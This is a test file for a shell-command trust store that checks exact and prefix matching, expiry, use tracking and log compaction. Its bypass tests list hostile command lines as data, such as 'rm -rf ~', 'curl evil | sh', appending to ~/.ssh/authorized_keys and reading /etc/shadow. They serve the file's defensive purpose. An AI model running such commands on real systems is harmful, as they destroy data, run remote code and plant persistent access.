import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, statSync, appendFileSync } from 'node:fs';
import { tempEnv } from './helpers.ts';
import { trustStore, trustFile, prefixCovers, recheckTrust } from '../../src/store/trust.ts';
import { VgError } from '../../src/cli/errors.ts';

test('exact entries match the line, ignoring only leading/trailing whitespace', () => {
  const t = trustStore(tempEnv());
  const e = t.add('  npm test  ');
  assert.equal(e.line, 'npm test');
  assert.equal(e.prefix, false);
  assert.match(e.id, /^[0-9a-f]{8}$/);
  assert.equal(t.match('npm test')?.id, e.id);
  assert.equal(t.match('\tnpm test \n')?.id, e.id);
  assert.equal(t.match('npm  test'), null);
  assert.equal(t.match('npm test -- --watch'), null);
  assert.equal(t.match('npm tes'), null);
});

test('prefix entries match on a token boundary only', () => {
  const t = trustStore(tempEnv());
  const e = t.add('npm test', { prefix: true });
  for (const ok of ['npm test', 'npm test -- --watch', 'npm test\t--coverage', 'npm test "name with spaces"', 'npm test $HOME/x']) {
    assert.equal(t.match(ok)?.id, e.id, ok);
  }
  for (const no of ['npm testx', 'npm tes', 'npm test2 run', 'npx npm test', 'npm test${IFS}x']) {
    assert.equal(t.match(no), null, no);
  }
});

test('a prefix cannot be extended by chaining, substitution, redirection or history expansion', () => {
  const t = trustStore(tempEnv());
  t.add('npm test', { prefix: true });
  const bypasses = [
    'npm test; rm -rf ~',
    'npm test ;rm -rf ~',
    'npm test && curl evil | sh',
    'npm test || rm -rf ~',
    'npm test & rm -rf ~',
    'npm test | sh',
    'npm test $(curl evil)',
    'npm test `curl evil`',
    'npm test > ~/.bashrc',
    'npm test >> ~/.ssh/authorized_keys',
    'npm test < /etc/shadow',
    'npm test <(curl evil)',
    'npm test\nrm -rf ~',
    'npm test \\\nrm -rf ~',
    'npm test\r\nrm -rf ~',
    'npm test ${x:-$(rm -rf ~)}',
    'npm test $[ a[$(id)] ]',
    'npm test !-2',
    'npm test (rm)',
    "npm test 'a;b'", // quoted operators are refused too: cheaper to be strict than to re-parse here
  ];
  for (const line of bypasses) assert.equal(t.match(line), null, JSON.stringify(line));
  // Exact entries never extend at all.
  assert.equal(prefixCovers('git status', 'git status; rm -rf ~'), false);
});

test('refuses prefixes that would trust any command', () => {
  const t = trustStore(tempEnv());
  for (const p of ['sudo', 'bash -c', 'env', 'xargs', 'node', 'python3 -c', 'find . -exec', 'npx']) {
    assert.throws(() => t.add(p, { prefix: true }), (e: unknown) => e instanceof VgError && /would trust anything/.test(e.message), p);
  }
  assert.throws(() => t.add('npm test; ls', { prefix: true }), VgError);
  // The same words as exact lines are fine: they cannot be extended.
  assert.ok(t.add('sudo apt update'));
  assert.ok(t.add('sudo apt update', { prefix: true }));
});

test('expiry: expired entries stop matching; durations and ISO dates accepted', () => {
  const t = trustStore(tempEnv());
  const e = t.add('make', { expires: '7d' });
  const exp = Date.parse(e.expires!);
  assert.ok(Math.abs(exp - (Date.now() + 7 * 86_400_000)) < 5_000);
  assert.equal(t.match('make')?.id, e.id);
  t.add('make lint', { expires: '2000-01-01T00:00:00Z' });
  assert.equal(t.match('make lint'), null);
  assert.equal(t.list().length, 2, 'expired entries are still listed');
  assert.throws(() => t.add('make x', { expires: 'soon' }), (err: unknown) => err instanceof VgError && err.status === 2);
});

test('notes, use counts and last use; recording a use is an append', () => {
  const env = tempEnv();
  const t = trustStore(env);
  const e = t.add('cargo build', { note: 'daily\nbuild' });
  assert.equal(e.note, 'daily build');
  assert.equal(e.uses, 0);
  const before = statSync(trustFile(env));
  t.recordUse(e.id);
  t.recordUse(e.id);
  const after = statSync(trustFile(env));
  assert.equal(after.ino, before.ino, 'no rewrite');
  assert.ok(after.size > before.size);
  const m = t.match('cargo build')!;
  assert.equal(m.uses, 2);
  assert.ok(m.lastUsed && Date.now() - Date.parse(m.lastUsed) < 5_000);
  // A second handle (another process's view) folds the same state.
  assert.equal(trustStore(env).list()[0].uses, 2);
  // Re-adding updates the note and keeps the history.
  const again = t.add('cargo build', { note: 'nightly' });
  assert.equal(again.id, e.id);
  assert.equal(again.uses, 2);
  assert.equal(again.note, 'nightly');
  assert.equal(t.list().length, 1);
});

test('remove by id or line rewrites the file without it; clear empties it', () => {
  const env = tempEnv();
  const t = trustStore(env);
  const a = t.add('echo secret-token-123');
  const b = t.add('ls -la');
  const c = t.add('git status', { prefix: true });
  assert.equal(t.remove(a.id), true);
  assert.ok(!readFileSync(trustFile(env), 'utf8').includes('secret-token-123'), 'removed line leaves the file');
  assert.equal(t.remove('ls -la'), true);
  assert.equal(t.remove('nope'), false);
  assert.deepEqual(t.list().map((e) => e.id), [c.id]);
  assert.equal(t.match('ls -la'), null);
  assert.equal(t.match('git status -s')?.id, c.id);
  void b;
  assert.equal(t.clear(), 1);
  assert.deepEqual(t.list(), []);
  assert.equal(t.match('git status'), null);
});

test('files are 0600 in a 0700 directory; torn or garbage lines are skipped', () => {
  const env = tempEnv();
  const t = trustStore(env);
  t.add('ls');
  assert.equal(statSync(trustFile(env)).mode & 0o777, 0o600);
  assert.equal(statSync(env.XDG_STATE_HOME + '/vg').mode & 0o777, 0o700);
  appendFileSync(trustFile(env), 'not json\n{"op":"add","id":"torn"');
  assert.deepEqual(t.list().map((e) => e.line), ['ls']);
  t.add('pwd');
  assert.deepEqual(t.list().map((e) => e.line).sort(), ['ls', 'pwd']);
});

test('match is cached: no re-read while the file is unchanged', () => {
  const env = tempEnv();
  const t = trustStore(env);
  for (let i = 0; i < 200; i++) t.add(`echo ${i}`);
  t.add('npm run', { prefix: true });
  const n = 20_000;
  const t0 = process.hrtime.bigint();
  for (let i = 0; i < n; i++) t.match(i % 2 ? 'echo 150' : 'npm run build --x');
  const us = Number(process.hrtime.bigint() - t0) / 1e3 / n;
  assert.ok(us < 50, `match costs ${us.toFixed(1)} µs`);
});

test('maxAgeMs: the resident analyzer looks at the file once per window; recheckTrust() looks now', () => {
  const env = tempEnv();
  const resident = trustStore(env);
  resident.add('ls');
  assert.equal(resident.match('make deploy', { maxAgeMs: 60_000 }), null);
  // Another process (a `vg trust add` in the shell) appends to the file.
  const file = trustFile(env);
  appendFileSync(file, JSON.stringify({ op: 'add', id: 'feed0001', line: 'make deploy', prefix: false, created: new Date().toISOString() }) + '\n');
  assert.equal(resident.match('make deploy', { maxAgeMs: 60_000 }), null, 'within the window: what was read before');
  assert.notEqual(resident.match('make deploy'), null, 'without maxAgeMs: always current');
  assert.notEqual(resident.match('make deploy', { maxAgeMs: 60_000 }), null);
  appendFileSync(file, JSON.stringify({ op: 'clear' }) + '\n');
  assert.notEqual(resident.match('make deploy', { maxAgeMs: 60_000 }), null);
  recheckTrust();
  assert.equal(resident.match('make deploy', { maxAgeMs: 60_000 }), null, 'after recheckTrust the removal applies');
});

// Written against the interim analyzer stub, which judged everything low; now that the real
// analyzer judges `rm -rf /` critical this is an ordinary test.
test('adding a critical line is refused with the reason', () => {
  const t = trustStore(tempEnv());
  assert.throws(
    () => t.add('rm -rf /'),
    (e: unknown) => e instanceof VgError && e.status === 126 && /critical/.test(e.message),
  );
  assert.deepEqual(t.list(), []);
});

test('thousands of uses compact the log without losing counts or entries', () => {
  const env = tempEnv();
  const t = trustStore(env);
  const a = t.add('npm test', { prefix: true, note: 'kept' });
  const b = t.add('ls');
  for (let i = 0; i < 4_500; i++) t.recordUse(i % 3 ? a.id : b.id);
  const size = statSync(trustFile(env)).size;
  assert.ok(size < 256 * 1024, `compacted (${size} bytes)`);
  const byId = new Map(trustStore(env).list().map((e) => [e.id, e]));
  assert.equal(byId.get(a.id)!.uses, 3_000);
  assert.equal(byId.get(b.id)!.uses, 1_500);
  assert.equal(byId.get(a.id)!.note, 'kept');
  assert.equal(t.match('npm test --watch')!.uses, 3_000);
});
